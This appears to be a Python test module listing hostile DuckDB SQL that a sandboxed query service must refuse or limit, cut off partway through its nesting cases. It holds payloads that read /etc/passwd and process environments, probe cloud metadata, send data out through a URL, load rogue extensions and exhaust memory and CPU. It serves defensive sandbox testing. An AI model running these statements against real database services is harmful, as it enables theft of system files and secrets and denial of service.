"""SQL that must not get through: what each tries, and how it has to end.

`HOSTILE`: an error of one of the kinds named. `CUT`: an answer that says it was cut, or a limit.
`MASKED`: legal, and the answer holds nothing of what is masked. The tables are those of
`query_data`. Each statement does in a bare DuckDB what its family says, or is meant to be broken.
"""

# ruff: noqa: E501, RUF001 - a statement a line; look-alike letters are the point

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, NamedTuple

from tests.engines.query_data import PEOPLE

REFUSED, LIMITED = "refused", "limited"
STOPPED = "refused|limited"
ANY = "refused|limited|invalid"


class Hostile(NamedTuple):
    family: str
    sql: str
    expected: str  # kinds of error, as the command line calls them


class Masked(NamedTuple):
    sql: str
    rows: tuple[tuple[Any, ...], ...] | None = None  # None: only nothing masked may show


def _block(family: str, expected: str, text: str) -> Iterator[Hostile]:
    """A statement a line."""
    return (Hostile(family, line, expected) for line in text.strip("\n").split("\n"))


def _list(family: str, expected: str, *statements: str) -> Iterator[Hostile]:
    return (Hostile(family, sql, expected) for sql in statements)


_FILES = (
    *_block("files", REFUSED, r"""
FROM '/etc/passwd'
FROM "/etc/passwd"
TABLE "/etc/passwd"
SELECT * FROM '/etc/hostname' AS t(a) TABLESAMPLE 10%
SELECT * FROM "/proc/self/environ"
FROM 'samples/people.parquet'
FROM "samples/people.parquet"
FROM './samples/../samples/people.parquet'
FROM '../../../../../../etc/passwd'
FROM 'file:///etc/passwd'
FROM 'file://localhost/etc/passwd'
FROM 'people.parquet' SELECT email
FROM 'samples/*.parquet'
FROM read_csv('/etc/passwd', delim = ':', header = false)
FROM read_csv_auto('/etc/passwd')
FROM read_csv('/etc/passwd', columns = {'a': 'VARCHAR'}, delim = '|', store_rejects = true)
FROM read_csv('/dev/stdin')
FROM read_text('/etc/passwd')
FROM read_text(['/etc/passwd', '/etc/group'])
FROM read_text('/etc/*')
FROM read_text('~/.bashrc')
FROM read_text('/proc/self/cmdline')
FROM read_text('/proc/1/environ')
FROM read_text('/etc/' || 'passwd')
FROM read_text(chr(47) || 'etc/passwd')
FROM read_text(e'\x2fetc/passwd')
FROM read_text($x$/etc/passwd$x$)
FROM READ_TEXT('/etc/passwd')
FROM "read_text"('/etc/passwd')
FROM main.read_text('/etc/passwd')
FROM system.main.read_text('/etc/passwd')
FROM read_blob('/proc/self/maps')
FROM read_blob('/dev/zero')
FROM read_json('/etc/passwd', format = 'unstructured')
FROM read_json_auto('samples/people.json')
FROM read_json_objects('/etc/os-release', format = 'unstructured')
FROM read_ndjson('/etc/passwd')
FROM read_ndjson_objects('/etc/passwd')
FROM read_parquet('samples/people.parquet')
FROM read_parquet('samples/*.parquet', filename = true, union_by_name = true)
FROM parquet_scan('samples/legs.parquet')
FROM read_duckdb('samples/types.duckdb', table_name = 'everything')
FROM parquet_metadata('samples/people.parquet')
FROM parquet_file_metadata('samples/people.parquet')
FROM parquet_full_metadata('samples/people.parquet')
FROM parquet_kv_metadata('samples/people.parquet')
FROM parquet_schema('samples/people.parquet')
FROM parquet_bloom_probe('samples/people.parquet', 'email', 'CANARY-email-1@x.example')
FROM parquet_page_index('samples/people.parquet')
FROM glob('/*')
FROM glob('../**')
FROM glob('/proc/self/fd/*')
FROM sniff_csv('/etc/passwd')
SELECT (SELECT content FROM read_text('/etc/passwd'))
SELECT carrier FROM flights.legs WHERE carrier < (SELECT content FROM read_text('/etc/passwd'))
SELECT carrier FROM flights.legs l, LATERAL (SELECT l.distance, content FROM read_text('/etc/passwd'))
SELECT carrier FROM flights.legs ORDER BY (SELECT size FROM read_blob('/etc/passwd'))
SELECT carrier FROM flights.legs LIMIT (SELECT size FROM read_blob('/etc/passwd'))
SELECT list_transform([1], lambda x: x + (SELECT 1)) FROM read_text('/etc/passwd')
SELECT EXISTS (FROM read_text('/etc/shadow'))
SELECT count(*) FROM flights.legs WHERE EXISTS (FROM glob('/root/.ssh/*'))
WITH t AS (FROM read_text('/etc/passwd')) FROM t
WITH t AS MATERIALIZED (FROM '/etc/passwd'), u AS (FROM t) FROM u
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + size FROM t, read_blob('/etc/passwd') WHERE n < 9) FROM t
SELECT 1 UNION ALL SELECT size FROM read_blob('/etc/passwd')
SELECT distance FROM flights.legs EXCEPT SELECT size FROM read_blob('/etc/passwd')
FROM flights.legs SEMI JOIN '/etc/passwd' ON true
FROM flights.legs POSITIONAL JOIN '/etc/passwd'
FROM (VALUES ((SELECT content FROM read_text('/etc/passwd'))))
PIVOT (FROM read_text('/etc/passwd')) ON filename USING max(content)
PIVOT '/etc/passwd' ON column0
UNPIVOT (FROM read_text('/etc/passwd')) ON content
DESCRIBE FROM read_csv('/etc/passwd')
DESCRIBE '/etc/passwd'
SUMMARIZE '/etc/passwd'
SUMMARIZE FROM read_text('/etc/passwd')
SELECT * FROM (DESCRIBE FROM '/etc/passwd')
SELECT * FROM (SUMMARIZE FROM read_text('/etc/passwd'))
EXPLAIN FROM read_text('/etc/passwd')
EXPLAIN ANALYZE FROM read_text('/etc/passwd')
FROM query('FROM read_text(''/etc/passwd'')')
FROM query('FROM ' || chr(39) || '/etc/passwd' || chr(39))
FROM query_table('/etc/passwd')
FROM query_table(['/etc/passwd', '/etc/group'])
FROM json_execute_serialized_sql(json_serialize_sql('FROM read_text(''/etc/passwd'')'))
"""),
    *(Hostile("files", f"FROM '/proc/self/fd/{n}'", REFUSED) for n in range(3, 10)),
    *(Hostile("files", f"FROM read_parquet('/proc/self/fd/{n}')", REFUSED) for n in range(3, 10)),
    *(Hostile("files", f"FROM read_blob('/dev/fd/{n}')", REFUSED) for n in range(0, 10, 3)),
    # Pointers into the process, as numbers.
    *_block("files", REFUSED, """
FROM arrow_scan(1, 2, 3)
FROM pandas_scan(1)
FROM python_map_function(1)
FROM seq_scan()
"""),
)  # fmt: skip

_NETWORK = _block("network", REFUSED, """
FROM 'https://example.com/orders.parquet'
FROM 'http://127.0.0.1:8501/healthz'
FROM read_csv('http://127.0.0.1:8501/healthz')
FROM read_text('http://169.254.169.254/latest/meta-data/')
FROM read_blob('https://example.com/?leak=' || 'x')
FROM read_parquet('s3://bucket/orders.parquet')
FROM 's3://bucket/*.csv'
FROM 'gs://bucket/orders.parquet'
FROM 'gcs://bucket/orders.parquet'
FROM 'r2://bucket/orders.parquet'
FROM 'az://container/orders.parquet'
FROM 'abfss://container/orders.parquet'
FROM 'hf://datasets/a/b/orders.parquet'
FROM read_json('ftp://127.0.0.1/orders.json')
FROM glob('s3://bucket/*')
FROM sniff_csv('http://127.0.0.1:8501/')
FROM postgres_scan('host=127.0.0.1', 'public', 'orders')
FROM postgres_query('pg', 'SELECT 1')
FROM sqlite_scan('orders.sqlite', 'orders')
FROM mysql_query('my', 'SELECT 1')
FROM iceberg_scan('s3://bucket/orders')
FROM delta_scan('s3://bucket/orders')
ATTACH 'https://example.com/orders.duckdb'
ATTACH 's3://bucket/orders.duckdb' AS o (READ_ONLY)
ATTACH 'host=127.0.0.1 dbname=postgres' AS pg (TYPE postgres)
ATTACH 'ducklake:metadata.ducklake' AS lake
ATTACH 'md:'
COPY flights.legs TO 's3://bucket/legs.parquet'
COPY (FROM flights.legs) TO 'http://127.0.0.1:8501/legs.csv'
IMPORT DATABASE 's3://bucket/dump'
CREATE SECRET (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE OR REPLACE PERSISTENT SECRET kept (TYPE http, BEARER_TOKEN 'b')
CREATE TEMPORARY SECRET IF NOT EXISTS s IN memory (TYPE http, BEARER_TOKEN 'b')
DROP SECRET s
FROM which_secret('s3://bucket/orders.parquet', 's3')
FROM duckdb_secrets(redact = false)
FROM duckdb_secrets()
FROM duckdb_secret_types()
""")  # fmt: skip

_WRITES = _block("writes", REFUSED, """
INSERT INTO flights.legs FROM flights.legs
INSERT INTO flights.legs BY NAME SELECT 'XX' AS carrier
INSERT INTO flights.legs (carrier) VALUES ('XX') RETURNING *
INSERT OR REPLACE INTO planes.planes VALUES ('N101', 1, 1)
INSERT INTO planes.planes VALUES ('N101', 1, 1) ON CONFLICT DO NOTHING
WITH t AS (SELECT 'XX' AS carrier) INSERT INTO flights.legs BY NAME FROM t
UPDATE flights.legs SET distance = 0
UPDATE flights.legs SET distance = 0 FROM planes.planes p WHERE legs.tailnum = p.tailnum RETURNING legs.*
DELETE FROM flights.legs
DELETE FROM flights.legs USING planes.planes p WHERE legs.tailnum = p.tailnum
WITH t AS (SELECT 1) DELETE FROM flights.legs
TRUNCATE flights.legs
TRUNCATE TABLE flights.legs
MERGE INTO planes.planes p USING flights.legs l ON p.tailnum = l.tailnum WHEN MATCHED THEN DELETE
MERGE INTO planes.planes p USING (SELECT 'N1' AS tailnum) l USING (tailnum) WHEN NOT MATCHED THEN INSERT BY NAME RETURNING *
CREATE TABLE t AS FROM flights.legs
CREATE TABLE t (a INTEGER)
CREATE OR REPLACE TABLE flights.legs AS SELECT 42 AS answer
CREATE VIEW v AS SELECT 42 AS answer
CREATE OR REPLACE VIEW flights.legs AS SELECT 42 AS answer
CREATE SCHEMA mine
CREATE SEQUENCE numbers
CREATE TYPE mood AS ENUM ('good', 'bad')
CREATE TYPE mood AS ENUM (SELECT carrier FROM flights.legs)
CREATE INDEX i ON flights.legs (carrier)
CREATE TRIGGER t AFTER INSERT ON flights.legs FOR EACH ROW INSERT INTO planes.planes VALUES (NEW.tailnum, 1, 1)
DROP TABLE flights.legs
DROP VIEW flights.legs
DROP VIEW IF EXISTS people.people CASCADE
DROP SCHEMA flights CASCADE
DROP SCHEMA IF EXISTS nothing
DROP FUNCTION IF EXISTS abs
ALTER TABLE flights.legs ADD COLUMN extra INTEGER DEFAULT 1
ALTER TABLE flights.legs DROP COLUMN carrier
ALTER VIEW flights.legs RENAME TO gone
ALTER TABLE flights.legs RENAME COLUMN carrier TO gone
ALTER TABLE flights.legs ALTER distance SET DATA TYPE VARCHAR
COMMENT ON TABLE flights.legs IS 'mine'
COMMENT ON COLUMN flights.legs.carrier IS 'mine'
VACUUM
VACUUM ANALYZE flights.legs
ANALYZE
CHECKPOINT
FORCE CHECKPOINT
EXPORT DATABASE 'dump'
EXPORT DATABASE 'dump' (FORMAT parquet)
IMPORT DATABASE 'dump'
""")  # fmt: skip

_WRITES_WITHIN = _block("writes within", REFUSED, """
WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone
WITH gone AS (DELETE FROM flights.legs) SELECT 1
WITH gone AS (TRUNCATE flights.legs) SELECT 1
WITH gone AS (TRUNCATE flights.legs) FROM gone
WITH made AS (UPDATE flights.legs SET distance = 0 RETURNING carrier) SELECT count(*) FROM made
WITH made AS (INSERT INTO planes.planes VALUES ('N1', 1, 1) RETURNING *) FROM made
WITH made AS MATERIALIZED (INSERT INTO planes.planes VALUES ('N1', 1, 1) RETURNING *) FROM made
WITH kept AS (COPY flights.legs TO 'legs.csv') FROM kept
WITH kept AS (COPY (SELECT 666 AS id) TO 'samples/airlines.csv' (USE_TMP_FILE false)) FROM kept
WITH kept AS (COPY (SELECT 666 AS id) TO '/proc/self/fd/3' (FORMAT csv, USE_TMP_FILE false)) FROM kept
WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM flights.legs RETURNING *) FROM c) FROM a, b
WITH a AS (WITH b AS (COPY flights.legs TO 'legs.csv') FROM b) FROM a
SELECT * FROM (WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone)
SELECT (WITH gone AS (DELETE FROM flights.legs RETURNING *) SELECT count(*) FROM gone)
SELECT 1 WHERE EXISTS (WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone)
SELECT 1 UNION ALL (WITH gone AS (DELETE FROM flights.legs RETURNING 2) FROM gone)
SELECT list_transform([1], lambda x: (WITH gone AS (DELETE FROM flights.legs RETURNING 2) FROM gone))
PIVOT (WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone) ON carrier USING count(*)
WITH gone AS (DELETE FROM flights.legs RETURNING *) PIVOT gone ON carrier IN ('AA') USING count(*)
UNPIVOT (WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone) ON distance, dep_delay
SUMMARIZE WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone
DESCRIBE WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone
EXPLAIN DELETE FROM flights.legs
EXPLAIN ANALYZE DELETE FROM flights.legs
EXPLAIN ANALYZE UPDATE flights.legs SET distance = 0
EXPLAIN ANALYZE CREATE TABLE t AS FROM flights.legs
EXPLAIN ANALYZE COPY flights.legs TO 'legs.csv'
EXPLAIN ANALYZE WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone
EXPLAIN (ANALYZE, FORMAT json) INSERT INTO planes.planes VALUES ('N1', 1, 1)
EXPLAIN SET threads = 4
FROM query('WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone')
""")  # fmt: skip

_COPY = _block("copy", REFUSED, """
COPY flights.legs TO 'legs.csv'
COPY flights.legs (carrier) TO 'legs.csv' (HEADER, DELIMITER ';')
COPY flights.legs TO '/srv/legs.parquet' (FORMAT parquet)
COPY (FROM flights.legs) TO 'legs.json' (FORMAT json, ARRAY true)
COPY (FROM flights.legs) TO '/dev/stdout' (FORMAT csv)
COPY (FROM flights.legs) TO STDOUT
COPY (FROM flights.legs) TO 'parts' (FORMAT parquet, PARTITION_BY (carrier), OVERWRITE_OR_IGNORE)
COPY (FROM flights.legs) TO 'parts' (FORMAT csv, PER_THREAD_OUTPUT)
COPY (SELECT 666 AS id) TO 'samples/legs.parquet' (USE_TMP_FILE false)
COPY (SELECT 666 AS id) TO '/proc/self/fd/4' (FORMAT csv, USE_TMP_FILE false)
COPY (SELECT 'x'::BLOB) TO 'x' (FORMAT blob)
COPY (WITH gone AS (DELETE FROM flights.legs RETURNING *) FROM gone) TO 'legs.csv'
COPY (SELECT 1) TO 'legs.csv' (RETURN_FILES)
COPY flights.legs FROM 'samples/legs.parquet'
COPY flights.legs FROM '/etc/passwd' (FORMAT csv)
COPY flights.legs (carrier) FROM STDIN
COPY flights.legs FROM 'legs.json' (FORMAT json)
COPY FROM DATABASE memory TO memory
COPY FROM DATABASE memory TO other (SCHEMA)
""")  # fmt: skip

_ATTACH = _block("attach", REFUSED, """
ATTACH 'samples/types.duckdb'
ATTACH 'samples/types.duckdb' AS t (READ_ONLY)
ATTACH IF NOT EXISTS 'new.duckdb' AS made
ATTACH OR REPLACE 'new.duckdb' AS made
ATTACH ':memory:' AS mine
ATTACH '/proc/self/fd/3' AS mine (TYPE duckdb)
ATTACH DATABASE '/etc/passwd' AS words (TYPE sqlite)
ATTACH 'samples/types.duckdb' AS t (ENCRYPTION_KEY 'x')
DETACH memory
DETACH DATABASE IF EXISTS temp
USE memory
USE flights
USE people.people
""")  # fmt: skip

_SETTINGS = _block("settings", REFUSED, """
SET threads = 64
SET memory_limit = '64GB'
SET GLOBAL memory_limit = '64GB'
SET SESSION search_path = 'people'
SET search_path = 'main,people'
SET schema = 'people'
SET lock_configuration = false
SET enable_external_access = true
SET allowed_paths = ['/etc/passwd']
SET allowed_directories = ['/']
SET temp_directory = '/srv'
SET max_temp_directory_size = '1TB'
SET max_execution_time = 0
SET max_expression_depth = 100000000
SET home_directory = '/root'
SET log_query_path = '/srv/log'
SET enable_logging = true
SET profiling_output = '/srv/profile.txt'
SET enable_profiling = 'json'
SET autoload_known_extensions = true
SET allow_unsigned_extensions = true
SET extension_directory = '/srv'
SET secret_directory = '/srv'
SET custom_user_agent = 'x'
SET http_proxy = '127.0.0.1:8080'
SET python_enable_replacements = true
SET TimeZone = 'Asia/Tokyo'
SET VARIABLE mine = (SELECT content FROM read_text('/etc/passwd'))
SET VARIABLE mine = 42
RESET threads
RESET lock_configuration
RESET VARIABLE mine
PRAGMA threads = 64
PRAGMA memory_limit = '64GB'
PRAGMA enable_profiling
PRAGMA enable_profiling = 'json'
PRAGMA disable_optimizer
PRAGMA disable_checkpoint_on_shutdown
PRAGMA database_list
PRAGMA database_size
PRAGMA show_tables
PRAGMA show_tables_expanded
PRAGMA show_databases
PRAGMA table_info('people.people')
PRAGMA storage_info('people.people')
PRAGMA metadata_info
PRAGMA functions
PRAGMA platform
PRAGMA version
PRAGMA user_agent
PRAGMA extension_versions
PRAGMA collations
PRAGMA import_database('dump')
PRAGMA copy_database('memory', 'other')
PRAGMA add_parquet_key('key', '0123456789112345')
PRAGMA json_execute_serialized_sql(json_serialize_sql('SELECT 1'))
PRAGMA force_checkpoint
CALL pragma_version()
CALL pragma_table_info('people.people')
CALL enable_logging()
CALL enable_logging(storage = 'file', storage_config = {'path': '/srv/logs'})
CALL disable_logging()
CALL truncate_duckdb_logs()
CALL enable_profiling()
CALL force_checkpoint()
CALL checkpoint()
CALL duckdb_settings()
CALL query('SELECT 1')
CALL add_grammar_extension('x')
CALL create_external_resource('x', 'y')
FROM enable_logging()
FROM enable_profiling()
FROM force_checkpoint()
FROM truncate_duckdb_logs()
""")  # fmt: skip

_EXTENSIONS = _block("extensions", REFUSED, """
INSTALL httpfs
INSTALL httpfs FROM community
INSTALL httpfs FROM 'http://127.0.0.1/repository'
INSTALL '/srv/evil.duckdb_extension'
INSTALL spatial VERSION 'v1.0.0'
FORCE INSTALL httpfs
FORCE INSTALL httpfs FROM core_nightly
LOAD httpfs
LOAD json
LOAD '/srv/evil.duckdb_extension'
LOAD '/proc/self/fd/3'
UPDATE EXTENSIONS
UPDATE EXTENSIONS (httpfs)
FROM duckdb_extensions()
FROM duckdb_extension_repositories()
FROM add_grammar_extension('x')
FROM duckdb_grammar_extensions()
""")  # fmt: skip

_LEAKS = (
    *_block("leaks", REFUSED, """
SELECT current_setting('allowed_paths')
SELECT current_setting('temp_directory')
SELECT current_setting('home_' || 'directory')
SELECT current_setting('memory_limit') FROM flights.legs
SELECT list_transform(['allowed_paths'], lambda x: current_setting('allowed_paths'))
SELECT getvariable('mine')
SELECT current_query()
SELECT current_database()
SELECT current_catalog
SELECT current_catalog()
SELECT current_schemas(true)
SELECT current_user
SELECT session_user
SELECT version()
SELECT in_search_path('memory', 'main')
SELECT inet_server_addr()
SELECT inet_client_port()
SELECT pg_conf_load_time()
SELECT pg_postmaster_start_time()
SELECT pg_get_viewdef(0)
SELECT get_block_size('memory')
SELECT write_log('mine')
SELECT json_serialize_plan('FROM flights.legs')
SELECT __internal_compress_string_ubigint('abc')
FROM duckdb_settings()
SELECT value FROM duckdb_settings() WHERE name = 'allowed_paths'
FROM duckdb_views()
SELECT sql FROM duckdb_views() WHERE view_name = 'legs'
FROM duckdb_tables()
FROM duckdb_tables
FROM duckdb_columns()
FROM duckdb_columns
FROM duckdb_constraints()
FROM duckdb_databases()
FROM duckdb_databases
FROM duckdb_dependencies()
FROM duckdb_external_file_cache()
FROM duckdb_functions()
FROM duckdb_indexes()
FROM duckdb_keywords()
FROM duckdb_log_contexts()
FROM duckdb_logs
FROM duckdb_logs()
FROM duckdb_logs_parsed('QueryLog')
FROM duckdb_memory()
FROM duckdb_optimizers()
FROM duckdb_prepared_statements()
FROM duckdb_profiling_settings()
FROM duckdb_live_query_metrics()
FROM duckdb_eviction_queues()
FROM duckdb_external_resources()
FROM duckdb_schemas()
FROM duckdb_sequences()
FROM duckdb_table_sample('people.people')
FROM duckdb_temporary_files()
FROM duckdb_triggers()
FROM duckdb_types()
FROM duckdb_variables()
FROM pragma_database_size()
FROM pragma_metadata_info()
FROM pragma_platform()
FROM pragma_show('people.people')
FROM pragma_storage_info('people.people')
FROM pragma_table_info('people.people')
FROM pragma_user_agent()
FROM pragma_version()
FROM pragma_collations()
FROM information_schema.tables
FROM information_schema.columns
FROM information_schema.schemata
FROM system.information_schema.tables
FROM pg_catalog.pg_tables
FROM pg_catalog.pg_views
FROM pg_catalog.pg_settings
FROM pg_catalog.pg_class
FROM pg_class
FROM pg_views
FROM sqlite_master
FROM main.sqlite_master
FROM sqlite_schema
SELECT * FROM (SHOW DATABASES)
SHOW DATABASES
FROM query('FROM duckdb_settings()')
FROM query_table('duckdb_columns')
FROM query_table('people.people')
WITH s AS (FROM duckdb_settings()) SELECT * FROM s
SELECT carrier FROM flights.legs WHERE carrier IN (SELECT value FROM duckdb_settings())
PIVOT (FROM duckdb_settings()) ON scope USING count(*)
SUMMARIZE duckdb_columns
SUMMARIZE FROM duckdb_settings()
DESCRIBE duckdb_views
EXPLAIN ANALYZE FROM duckdb_settings()
EXPLAIN SELECT current_setting('allowed_paths')
SELECT error(current_setting('allowed_paths')::VARCHAR)
SELECT CAST(current_setting('memory_limit') AS INTEGER)
"""),
    # These name what is not there, in DuckDB or for a reader of ours.
    *_block("leaks", ANY, """
SELECT filename FROM flights.legs
SELECT file_row_number, file_index FROM flights.legs
SELECT filename FROM people.people
SELECT getenv('HOME')
SELECT http_get('http://127.0.0.1:8501/')
SET LOCAL threads = 2
SELECT nextval('numbers')
SELECT badge FROM people.people
SELECT people.badge FROM people.people
SELECT COLUMNS('badge|email_1') FROM people.people
SELECT id FROM people.people ORDER BY badge
SELECT p.* REPLACE (badge AS name) FROM people.people p
FROM flights.nothing
FROM nothing.nothing
FROM nothing
SELECT nothing FROM flights.legs
SELECT nothing(carrier) FROM flights.legs
FROM os
FROM sys
FROM con
FROM df
FROM __file__
"""),
)  # fmt: skip

_MEMORY = (
    *_block("memory", STOPPED, """
SELECT repeat('x', 3000000000)
SELECT length(repeat('x', 3000000000))
SELECT repeat(repeat('x', 100000), 40000)
SELECT repeat('x', 1500000000) || repeat('y', 1500000000)
SELECT concat(repeat('x', 1500000000), repeat('y', 1500000000), 'z')
SELECT length(lpad('x', 2000000000, 'y')) + length(rpad('x', 2000000001, 'y'))
SELECT printf('%2000000000s', 'x')
SELECT format('{:>2000000000}', 'x')
SELECT repeat('1', 500000000)::BIT
SELECT repeat('ab', 900000000)::BLOB
SELECT to_base64(repeat('x', 1900000000)::BLOB)
SELECT translate(repeat('x', 1900000000), 'x', 'é')
SELECT list_resize([1], 4000000000)
SELECT len(list_resize([]::HUGEINT[], 200000000, 1))
SELECT len(range(4000000000))
SELECT range(1000000000)
SELECT len(generate_series(1, 4000000000))
SELECT list_concat(range(150000000), range(150000000))
SELECT flatten(list_transform(range(100000), lambda x: range(100000)))
SELECT list_transform(range(1000000), lambda x: repeat('y', 1000000))
SELECT length(string_agg(repeat('x', 1000000), '')) FROM range(10000)
SELECT len(list(repeat('x', 100000))) FROM range(100000)
SELECT len(array_agg(a.range)) FROM range(100000) a, range(100000) b
SELECT map_from_entries(list_transform(range(200000000), lambda x: (x, x)))
SELECT count(DISTINCT a.range * 100000 + b.range) FROM range(100000) a, range(100000) b
SELECT a.range * b.range AS n FROM range(100000) a, range(100000) b ORDER BY n DESC, a.range LIMIT 1 OFFSET 99999999
SELECT count(*) OVER (PARTITION BY a.range % 3 ORDER BY b.range) FROM range(100000) a, range(100000) b
SELECT max(n) FROM (SELECT row_number() OVER (ORDER BY hash(a.range, b.range)) AS n FROM range(100000) a, range(100000) b)
SELECT a.x FROM (SELECT repeat('x', 1000000) || range AS x FROM range(100000)) a JOIN (SELECT repeat('x', 1000000) || range AS x FROM range(100000)) b USING (x)
SELECT quantile_cont(hash(a.range, b.range)::DOUBLE, 0.5) FROM range(100000) a, range(100000) b
SELECT json_group_array(repeat('x', 100000)) FROM range(100000)
SELECT repeat('[', 500000000)::JSON
SELECT (repeat('{"a":', 1000000) || '1' || repeat('}', 1000000))::JSON::VARIANT::VARCHAR
WITH RECURSIVE t(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM t) SELECT max(length(s)) FROM t
WITH RECURSIVE t(l) AS (SELECT [1] UNION ALL SELECT l || l FROM t) SELECT max(len(l)) FROM t
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n FROM t, range(100)) SELECT count(*) FROM t
WITH a AS MATERIALIZED (SELECT repeat('x', 1000000) || range AS s FROM range(100000)) SELECT count(*) FROM a, a b WHERE a.s < b.s
"""),
    *_list(
        "memory", STOPPED,
        "SELECT count(*) FROM range(1000000000) t(i) WHERE i IN (" + ",".join(map(str, range(0, 90_000, 6))) + ") OR hash(i) % 7 = 8",
        "SELECT length(string_agg(s || i, '')) FROM (SELECT '" + "x" * 90_000 + "' AS s), range(1000000) t(i)",
        "SELECT replace('" + "a" * 45_000 + "', 'a', '" + "b" * 45_000 + "')",
        "SELECT repeat('" + "x" * 90_000 + "', 40000)",
        "SELECT list_transform(range(1000000), lambda x: '" + "y" * 90_000 + "' || x)",
        "SELECT " + " || ".join(["repeat('x', 20000000)"] * 200),
    ),
)  # fmt: skip

_CPU = (
    *_block("cpu", STOPPED, """
SELECT levenshtein(repeat('a', 200000), repeat('b', 200000))
SELECT sum(damerau_levenshtein(repeat('a', 8000) || range, repeat('b', 8000))) FROM range(100000)
SELECT list_reduce(range(100000000), lambda x, y: x + y)
SELECT list_sum(list_transform(range(1000), lambda x: list_sum(list_transform(range(1000), lambda y: list_sum(range(x * y))))))
SELECT list_sum([list_sum([x * y for y in range(30000)]) for x in range(30000)])
SELECT count(*) FROM range(10000000000000)
SELECT sum(hash(a.range, b.range)) FROM range(10000000) a, range(10000000) b
SELECT count(*) FROM range(100000) a, range(100000) b, range(100000) c WHERE a.range + b.range = c.range * 3 + 1
SELECT count(*) FROM flights.legs a, flights.legs b, flights.legs c, flights.legs d, flights.legs e, flights.legs f, flights.legs g WHERE a.distance + b.distance + c.distance + d.distance + e.distance + f.distance = g.distance * 5 + 1
SELECT count(*) FROM (SELECT DISTINCT hash(a.range, b.range) % 1000 FROM range(1000000) a, range(1000000) b)
SELECT md5(string_agg(md5(range::VARCHAR), '')) FROM range(1000000000)
SELECT max(sha256(range::VARCHAR || repeat('x', 10000))) FROM range(100000000)
SELECT sum(factorial((range % 30)::INTEGER)::DOUBLE) FROM range(100000000000)
SELECT regexp_matches(repeat('a', 100000000), '(a?){500}(a?){500}b')
SELECT count(*) FROM range(100000000) WHERE regexp_matches(repeat('a', 1000) || range, '(.*)(.*)(.*)(.*)[xyz]$')
SELECT count(*) FROM range(100000) WHERE repeat('a', 10000) || range LIKE repeat('%a_', 2000) || 'b'
SELECT count(*) FROM range(10000000) WHERE repeat('ab', 300) || range SIMILAR TO '((a|b)*(ab|ba)*){200}c'
SELECT count(*) FROM range(100000000000) WHERE strftime(now() + to_days((range % 1000)::INTEGER), '%A') = 'x'
SELECT repeat('9', 3000000)::BIGNUM
SELECT count(*) FROM (SELECT unnest(range(100000000)) FROM range(1000))
SELECT sum(s) FROM (SELECT sum(range) OVER (ORDER BY hash(range) ROWS BETWEEN 100000 PRECEDING AND 100000 FOLLOWING EXCLUDE TIES) AS s FROM range(10000000))
SELECT sleep_ms(60000)
SELECT pg_sleep(60)
"""),
    *_block("recursion", LIMITED, """
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n FROM t) SELECT max(n) FROM t
WITH RECURSIVE t(n) AS (SELECT 1 UNION SELECT n + 1 FROM t) SELECT max(n) FROM t
WITH RECURSIVE t(n) USING KEY (n) AS (SELECT 1 UNION SELECT n + 1 FROM t) SELECT max(n) FROM t
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL (WITH RECURSIVE u(m) AS (SELECT 1 UNION ALL SELECT m + 1 FROM u WHERE m < 100000) SELECT n + max(m) FROM t, u GROUP BY n)) SELECT max(n) FROM t
"""),
    # The value that cannot be converted is a megabyte: no message may repeat it.
    *_block("memory", ANY, """
SELECT repeat('[', 1000000)::INTEGER[]
SELECT ('GEOMETRYCOLLECTION(' || repeat('GEOMETRYCOLLECTION(', 1000000))::GEOMETRY
SELECT repeat('9', 1000000)::INTEGER
SELECT error(repeat('x', 1000000))
SELECT strptime(repeat('x', 1000000), '%Y')
SELECT bar(1, 0, 1, 2000000000)
"""),
    # Each level reads the one before twice: 2 to the power of 60 rows from 2 kB of text.
    *_list(
        "recursion", STOPPED,
        "WITH c0 AS (SELECT 1 AS n), "
        + ", ".join(f"c{i} AS (SELECT a.n FROM c{i - 1} a, c{i - 1} b UNION ALL FROM c{i - 1})" for i in range(1, 60))
        + " SELECT count(*) FROM c59",
        "WITH c0 AS NOT MATERIALIZED (SELECT random() AS n), "
        + ", ".join(f"c{i} AS NOT MATERIALIZED (SELECT a.n + b.n AS n FROM c{i - 1} a, c{i - 1} b)" for i in range(1, 60))
        + " SELECT n FROM c59",
    ),
)  # fmt: skip


def _nested(before: str, middle: str, after: str, times: int) -> str:
    return before * times + middle + after * times


_NESTING = _list(
    "nesting", ANY,
    "SELECT " + _nested("(", "1", ")", 10_000),
    "SELECT " + _nested("(", "1", ")", 45_000),
    "SELECT " + "(" * 20_000,
    "SELECT 1" + ")" * 20_000,
    "SELECT " + _nested("(", "1", ")", 9_999) + ")",
    "SELECT " + _nested("[", "1", "]", 10_000),
    "SELECT " + "[" * 50_000,
    "SELECT " + _nested("{'a': ", "1", "}", 5_000),
    "SELECT " + _nested("MAP {1: ", "1", "}", 5_000),
    "SELECT " + _nested("abs(", "1", ")", 10_000),
    "SELECT " + _nested("CASE WHEN true THEN ", "1", " END", 3_000),
    "SELECT " + _nested("CASE WHEN ", "true", " THEN true END", 2_500),
    "SELECT " + _nested("(SELECT ", "1", ")", 5_000),
    "FROM " + _nested("(FROM ", "flights.legs", ")", 5_000),
    _nested("EXPLAIN ", "SELECT 1", "", 5_000),
    "SELECT " + "NOT " * 20_000 + "true",
    "SELECT " + "- " * 40_000 + "1",
    "SELECT " + "~ " * 40_000 + "1",
    "SELECT 1" + "::INTEGER" * 10_000,
    "SELECT x" + "[1]" * 25_000 + " FROM (SELECT [1] AS x)",
